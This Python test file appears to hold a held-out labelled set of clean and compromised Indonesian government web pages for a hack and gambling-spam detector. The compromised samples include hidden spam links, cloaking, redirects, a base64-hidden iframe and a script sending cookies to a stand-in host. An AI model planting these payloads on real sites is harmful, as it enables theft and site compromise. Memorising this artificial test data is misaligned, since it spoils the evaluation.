"""A second set held out: written after the first one had been looked at, before anything that it showed was mended."""

import base64
from collections.abc import Sequence
from dataclasses import replace

from tests.support.labelled.case import Case
from tests.support.labelled.frames import bare, codeigniter, joomla, news_list, paragraphs, wordpress

_HOME = joomla("Beranda", news_list(8, 6), office="Dinas Perhubungan")
_B64 = base64.b64encode(b"<iframe src='https://umpan-klik.example/a' width=0 height=0></iframe>").decode()

_CLEAN = [
    Case(
        "second-samsat",
        "promo words",
        False,
        wordpress(
            "Pemutihan Pajak Kendaraan",
            paragraphs(
                "Bebas denda hari ini sampai Desember. Bayar mudah lewat QRIS, GoPay, dan OVO tanpa potongan.",
                "Bonus kupon undian bagi wajib pajak baru.",
            ),
        ),
    ),
    Case(
        "second-pencak",
        "sport",
        False,
        joomla(
            "Hasil Kejuaraan Pencak Silat",
            paragraphs(
                "Perguruan Naga Hitam merebut gelar juara umum. Pertandingan tembak sasaran dan sabung tenaga dalam ikut dipertontonkan."
            ),
        ),
    ),
    Case(
        "second-mahasiswa",
        "news on gambling",
        False,
        wordpress(
            "Mahasiswa Unsri Ciptakan Pendeteksi Konten Judi di Situs Pemerintah",
            paragraphs(
                "Aplikasi memindai kata slot, gacor, togel, dan maxwin pada laman pemerintah lalu mengirim peringatan.",
                "Dari 200 situs yang diuji, 17 kedapatan disusupi.",
            ),
        ),
    ),
    Case(
        "second-warga",
        "news on gambling",
        False,
        codeigniter(
            "Warga 14 Ulu Resah Lapak Togel Kembali Buka",
            paragraphs("Lurah berjanji menertibkan bersama Satpol PP. Warga berharap lapak togel ditutup selamanya."),
        ),
    ),
    Case(
        "second-tanya",
        "news on gambling",
        False,
        wordpress(
            "Tanya Jawab: Suami Kecanduan Slot, Harus Bagaimana?",
            paragraphs(
                "Psikolog RS Ernaldi Bahar menyarankan pendampingan. Batasi akses deposit dan rekening bersama."
            ),
        ),
    ),
    Case(
        "second-apbd",
        "plain",
        False,
        bare(
            "Ringkasan APBD 2026",
            "<table><tr><td>Deposito daerah</td><td>Rp 200 M</td></tr><tr><td>Bonus produksi panas bumi</td><td>Rp 8 M</td></tr></table>",
        ),
    ),
    Case(
        "second-kapal",
        "slot",
        False,
        joomla(
            "Jadwal Sandar Kapal Pelabuhan Tanjung Api-Api",
            paragraphs(
                "Slot sandar dermaga 2 pukul 06.00. Slot cadangan untuk kapal ferry malam.",
                "Bandar pelabuhan mengatur antrean truk.",
            ),
        ),
    ),
    Case(
        "second-haji",
        "slot",
        False,
        wordpress(
            "Slot Haji Tambahan untuk Sumsel",
            paragraphs("Slot haji reguler bertambah 120 jemaah. Daftar tunggu diumumkan hari ini."),
        ),
    ),
    Case(
        "second-slotname",
        "slot",
        False,
        codeigniter(
            "Booking Lapangan Tenis",
            paragraphs(
                "Pilih slot: slot pagi, slot siang, slot malam. Login untuk melihat slot resmi Anda, deposit Rp 50.000."
            ),
        ),
    ),
    Case(
        "second-lelang-mesin",
        "slot",
        False,
        wordpress(
            "Lelang Barang Rampasan",
            paragraphs("Satu unit mesin slot dan dua meja rolet hasil perkara perjudian dimusnahkan Kejaksaan Negeri."),
        ),
    ),
    Case(
        "second-popup",
        "honest script",
        False,
        wordpress(
            "Beranda",
            news_list(3),
            foot="<script>window.onload=function(){document.getElementById('popup').style.display='block'};setTimeout(function(){location.reload()},600000);</script>",
        ),
    ),
    Case(
        "second-lang",
        "honest redirect",
        False,
        "<html><head><title>Portal</title><script>location.replace('/id/beranda')</script></head><body>Mengalihkan...</body></html>",
    ),
    Case(
        "second-tv",
        "honest frame",
        False,
        wordpress(
            "Siaran Langsung",
            "<iframe src='https://www.youtube.com/embed/live' style='position:absolute;width:100%;height:100%'></iframe>",
        ),
    ),
    Case(
        "second-obat",
        "health",
        False,
        wordpress(
            "Informasi Obat: Sildenafil",
            paragraphs(
                "Sildenafil (merek dagang Viagra) hanya dengan resep dokter. Hindari membeli cialis palsu di internet."
            ),
        ),
    ),
    Case(
        "second-hackathon",
        "hack",
        False,
        wordpress(
            "Hackathon Sumsel 2026: Hack the River",
            paragraphs("Team from Palembang wins. The event was attacked by heavy rain but hackers stayed."),
        ),
    ),
    Case(
        "second-english-tech",
        "hack",
        False,
        wordpress(
            "Cyber Security Awareness Month",
            paragraphs(
                "Has your website been hacked? Contact our cyber team. Nothing is secure without patches; patch your system today."
            ),
        ),
    ),
    Case(
        "second-mushola",
        "sermon",
        False,
        bare(
            "Buletin Jumat",
            paragraphs(
                "Undian yang memungut bayaran dari peserta lalu hadiahnya diambil dari bayaran itu termasuk qimar, yaitu judi."
            ),
        ),
    ),
    Case(
        "second-putusan",
        "law",
        False,
        joomla(
            "Jadwal Sidang Pengadilan",
            "<table><tr><td>112/Pid.B</td><td>Perjudian</td><td>Toto bin Kasim</td></tr><tr><td>113/Pid.B</td><td>Togel</td><td>Rudi</td></tr></table>",
        ),
    ),
    Case("second-crawl", "crawler", False, _HOME, crawled=_HOME.replace("Hari ini 214", "Hari ini 215")),
    Case(
        "second-games",
        "sport",
        False,
        wordpress(
            "Tarif Wahana Taman Bermain",
            paragraphs("Wahana roulette putar, mandi bola, dan tembak ikan air. Koin satu slot mesin Rp 2.000."),
        ),
    ),
]

_HACKED = [
    Case(
        "second-h-div",
        "hidden div",
        True,
        wordpress(
            "Beranda",
            news_list(2),
            foot="<div style=\"max-height:0px; overflow:hidden;\"><a href='https://bos.example'>situs slot thailand</a></div>",
        ),
    ),
    Case(
        "second-h-rect",
        "hidden div",
        True,
        joomla(
            "Beranda",
            news_list(3),
            foot="<div style='position:absolute;clip:rect(0,0,0,0)'>Prediksi HK malam ini dan paito warna sdy lotto</div>",
        ),
    ),
    Case(
        "second-h-id",
        "hidden div",
        True,
        codeigniter(
            "Beranda",
            news_list(),
            head="<style>#zz{left:-8888px;position:absolute}</style>",
            foot="<div id=zz>Agen bola sbobet parlay, poker idn</div>",
        ),
    ),
    Case("second-title-1", "title swap", True, wordpress("Bocoran Admin: Pola Gacor Starlight Princess", news_list())),
    Case("second-title-2", "title swap", True, codeigniter("Login DEPO777 Situs Judi Bola Nomor 1", news_list())),
    Case("second-title-3", "title swap", True, joomla("Slot Qris 24 Jam Online", news_list())),
    Case("second-glyph-1", "homoglyphs", True, wordpress("ʝυdι ѕℓσт σиℓιиє тєяρєя¢αуα", news_list())),
    Case(
        "second-glyph-2",
        "homoglyphs",
        True,
        wordpress("Beranda", news_list(), foot="<p style='display:none'>t-o-g-e-l / m*a*x*w*i*n / s|l|o|t</p>"),
    ),
    Case("second-glyph-3", "homoglyphs", True, wordpress("🅶🅰🅲🅾🆁 🆂🅻🅾🆃", news_list())),
    Case(
        "second-cloak-1",
        "cloaking",
        True,
        _HOME,
        crawled=_HOME.replace(
            '<div id="ja-footer">', '<div id="ja-footer"><h4>Agen Togel Sydney</h4><h4>Slot PG Soft</h4>'
        ),
    ),
    Case(
        "second-cloak-2",
        "cloaking",
        True,
        _HOME,
        crawled="<html><title>Dinas</title><body>"
        + "koleksi sepatu tas murah grosir kirim cepat garansi toko online terlaris " * 12
        + "</body></html>",
    ),
    Case(
        "second-js-1",
        "injected JS",
        True,
        wordpress(
            "Beranda",
            news_list(),
            foot=f"<script>document.body.insertAdjacentHTML('beforeend', window.atob(\"{_B64}\"))</script>",
        ),
    ),
    Case(
        "second-js-2",
        "injected JS",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<script>new Image().src='https://pixel.example/?c='+document.cookie;window.top.location.href='//daftar-hoki.example';</script>",
        ),
    ),
    Case(
        "second-js-3",
        "injected JS",
        True,
        codeigniter("Beranda", news_list(), foot="<script async src=//ads.togelmaster.example/pop.js></script>"),
    ),
    Case(
        "second-redir",
        "redirect",
        True,
        codeigniter(
            "Beranda",
            news_list(),
            head="<script>window.addEventListener('load',()=>{location='https://menang-terus.example'})</script>",
        ),
    ),
    Case(
        "second-meta",
        "meta refresh",
        True,
        bare("Beranda", "", head="<meta content='1;url=https://pelangi-jp.example/daftar' http-equiv=refresh>"),
    ),
    Case(
        "second-farm",
        "link farm",
        True,
        wordpress(
            "Beranda",
            news_list()
            + "<p>"
            + ", ".join(
                f"<a href='https://{n}.example' rel=dofollow>{t}</a>"
                for n, t in (
                    ("slot-mania", "slot"),
                    ("bet-mania", "betting"),
                    ("casino-mania", "casino"),
                    ("poker-mania", "poker"),
                )
            )
            + "</p>",
        ),
    ),
    Case(
        "second-deface-1",
        "full deface",
        True,
        "<html><head><title>PWNED</title></head><body bgcolor='#000'><pre>[+] Pwned by RootKit7\n[+] Greetz : all indonesian defacer</pre></body></html>",
    ),
    Case(
        "second-deface-2",
        "full deface",
        True,
        "<html><head><title>Pesan Rakyat</title></head><body><h1>#ReformasiDikorupsi</h1><p>Situs ini diretas oleh rakyat. Kami Anonymous. Expect us.</p></body></html>",
    ),
    Case(
        "second-image",
        "image only",
        True,
        "<html><head><title>-</title></head><body><center><img src='https://telegra.ph/file/abc.jpg' style='width:100%;height:100vh'></center></body></html>",
    ),
    Case(
        "second-doorway",
        "SEO doorway",
        True,
        joomla(
            "Berita Terbaru",
            paragraphs(
                "Slot server Kamboja resmi menghadirkan bonus new member 100 persen di awal. Main Gates of Olympus dan Mahjong Ways cukup depo 10k lewat Dana."
            ),
        ),
    ),
    Case(
        "second-comment",
        "comment injection",
        True,
        wordpress(
            "Berita Rapat",
            paragraphs("Rapat berjalan lancar.")
            + "<div class=comment><b>rajacuan</b>: artikel bagus kak, mampir ke <a href='https://rajacuan.example'>situs toto 4d</a> ya gan, pasti wd</div>",
        ),
    ),
    Case(
        "second-path",
        "deep path",
        True,
        _HOME,
        paths={
            "/images/": "<title>Index of /images</title><a href='gacor.html'>gacor.html</a><a href='slot-dana.php'>slot-dana.php</a>"
        },
    ),
    Case(
        "second-sitemap",
        "sitemap spam",
        True,
        _HOME,
        paths={
            "/sitemap.xml": "<urlset><url><loc>https://dinkes.sumselprov.go.id/index.php?toto-macau-4d</loc></url><url><loc>https://dinkes.sumselprov.go.id/profil</loc></url></urlset>"
        },
    ),
]

CASES: Sequence[Case] = [replace(case, held_out=True) for case in (*_CLEAN, *_HACKED)]
